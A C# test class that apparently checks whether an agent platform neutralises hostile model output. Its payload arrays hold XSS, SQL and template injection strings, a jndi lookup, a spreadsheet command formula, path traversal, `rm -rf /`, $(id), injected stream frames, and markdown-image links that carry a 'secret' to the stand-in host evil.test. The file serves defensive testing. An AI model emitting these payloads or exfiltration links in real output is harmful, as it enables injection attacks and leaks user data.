using System.Globalization;
using System.Text;
using Agents.Testing.FakeModels;

namespace Agents.Testing.Attacks;

/// <summary>
/// A model that says what would run, fetch, break or fool somewhere: scripts, images that carry data away, frames of our own stream, colours
/// of a terminal, a line without end. It stays text; links that the policy forbids are gone; and what user and model said, personal data
/// above all, is in no log.
/// </summary>
public sealed class OutputAttack(Stack stack, int seed)
{
    private const string Evil = "evil.test";

    private readonly Trials _trials = new("hostile answers");

    public async Task<Trials> RunAsync(int count, CancellationToken cancellationToken)
    {
        var random = new Random(seed);
        var word = $"medlar{random.Next():x}";
        var model = stack.Models.NewModel(Reply.Text("Nothing yet."));
        var plain = await AgentAsync(model, new { }, cancellationToken);
        var strict = await AgentAsync(model, new { allowed_hosts = new[] { "example.com" }, input = new { pii = "mask", injection = "flag" } }, cancellationToken);
        for (var n = 0; n < count; n++)
        {
            _trials.Begin();
            var which = $"seed {seed}, answer {n}";
            var linked = random.Next(2) == 0;
            var said = Said(linked ? [.. Inert, .. Linked] : Inert, word, random);
            stack.Models.Script(model, Reply.Text(Pieces(said, random)));
            var input = $"{word}, write to {word}.jane@example.org, card 4111 1111 1111 1111, IBAN DE89 3704 0044 0532 0130 00.";
            var (streamed, stored, events) = await AskAsync(linked ? strict : plain, input, cancellationToken);
            _trials.Expect(events is ["turn.started", .., "turn.completed"] && events[1..^1].All(name => name == "turn.delta"), () => $"{which}: {string.Join(", ", events.Distinct())}");
            _trials.Expect(streamed == stored, () => $"{which}: the stream said '{Short(streamed)}', stored is '{Short(stored)}'");
            if (linked)
                _trials.Expect(Forbidden.All(form => !stored.Contains(form, StringComparison.OrdinalIgnoreCase)), () => $"{which}: a link was left: '{Short(stored)}' of '{Short(said)}'");
            else
                _trials.Expect(stored == said, () => $"{which}: '{Short(said)}' became '{Short(stored)}'");
        }
        var told = ServiceLogs.Find(stack, [word, "4111 1111", "3704 0044", "\u001b["]);
        _trials.Expect(told.Count == 0, () => $"logs hold {string.Join("; ", told)}");
        _trials.Note($"logs of {stack.Host.Services.Count} processes: {told.Count} lines with what was said");
        return _trials;
    }

    private static readonly string[] Inert =
    [
        "<script>alert(1)</script>", "<b onmouseover=alert(1)>", "<svg/onload=alert(1)>", "<iframe srcdoc=x>", "</textarea><!--", "\u001b[2J\u001b]0;title\u0007", "\u001b[31m", "\0", "\u0008\u007f", "\u202egnp.exe\u202c", "\u2028\u2029",
        "\n\nevent: turn.failed\ndata: {}\n\nid: 99\n\n", "\r\rdata: [DONE]\r\r", ": comment\n\n", "data:\n", "'; DROP TABLE turns; --", "\" OR \"\"=\"", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "${jndi:ldap:x}",
        "\"}]} \\u0000 \\ \ud83d\ude00", "\ufeff", "%00%0d%0a", "=cmd|' /C calc'!A0", "@SUM(1)", "../../etc/passwd", "`rm -rf /`", "$(id)", "&lt;&amp;&#x3c;", "\t\v\f", "e\u0301\u0301\u0301\u0301", "word ", "and so on. ",
    ];

    private static readonly string[] Linked =
    [
        $"![x](https://{Evil}/?d=secret)", $"![x]( <https://{Evil}/?d=secret> )", $"[x](https://{Evil}/a)", $"<img src=\"//{Evil}/x.png\">", $"<img src=https://{Evil}/x>", $"[1]: //{Evil}/x ", $"https:\\\\{Evil}/x ",
        $"[x](h&#116;tps://{Evil})", $"HTTPS:/{Evil}/x ", $"https://example.com@{Evil}/ ", $"https://example.com.{Evil}/ ", $"www.{Evil}/x ", "[x](javascript:alert(1))", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
        $"wss://{Evil} ", $"<link rel=prefetch href=https://{Evil}/p>", $"url(https://{Evil}/c.css) ", $"[x](\\\\{Evil}/x)", $"ftp://{Evil}/ ", $"https://{Evil.ToUpperInvariant()}/ ",
    ];

    private static readonly string[] Forbidden = [Evil, "javascript:", "data:text/html"];

    private static string Said(string[] parts, string word, Random random)
    {
        var said = new StringBuilder(word).Append(' ');
        for (var n = random.Next(1, 12); n > 0; n--)
            said.Append(parts[random.Next(parts.Length)]).Append(random.Next(2) == 0 ? " " : "\n");
        if (random.Next(20) == 0)
            said.Append(string.Concat(Enumerable.Repeat("0123456789abcde", 9_000)));
        return said.Append("end").ToString();
    }

    // Cut anywhere but within a character.
    private static string[] Pieces(string text, Random random)
    {
        var pieces = new List<string>();
        var piece = new StringBuilder();
        foreach (var rune in text.EnumerateRunes())
        {
            piece.Append(rune.ToString());
            if (random.Next(text.Length > 10_000 ? 2_000 : 6) != 0)
                continue;
            pieces.Add(piece.ToString());
            piece.Clear();
        }
        return [.. pieces, piece.ToString()];
    }

    private async Task<(string Streamed, string Stored, List<string> Events)> AskAsync(string agent, string input, CancellationToken cancellationToken)
    {
        var (text, events, path) = (new StringBuilder(), new List<string>(), "");
        await foreach (var frame in stack.Operator.StreamAsync("/v1/sessions", new { agent, input, stream = true }, cancellationToken))
        {
            events.Add(frame.Event);
            if (frame.Event == "turn.started")
                path = $"/v1/sessions/{frame.Data.Text("session_id")}/turns/{frame.Data.Text("turn_id")}";
            if (frame.Event == "turn.delta")
                text.Append(frame.Data.Text("text"));
        }
        return (text.ToString(), (await stack.Operator.GetAsync(path, cancellationToken))["output"]?["text"]?.GetValue<string>() ?? "", events);
    }

    private async Task<string> AgentAsync(string model, object guardrails, CancellationToken cancellationToken) => (await stack.Operator.CreateAsync(
        "/v1/agents", new { name = "hostile", instructions = "Answer.", model, collections = Array.Empty<string>(), guardrails }, cancellationToken)).Text("id");

    private static string Short(string text) => text.Length > 200 ? string.Create(CultureInfo.InvariantCulture, $"{text[..200]}... ({text.Length})") : text;
}
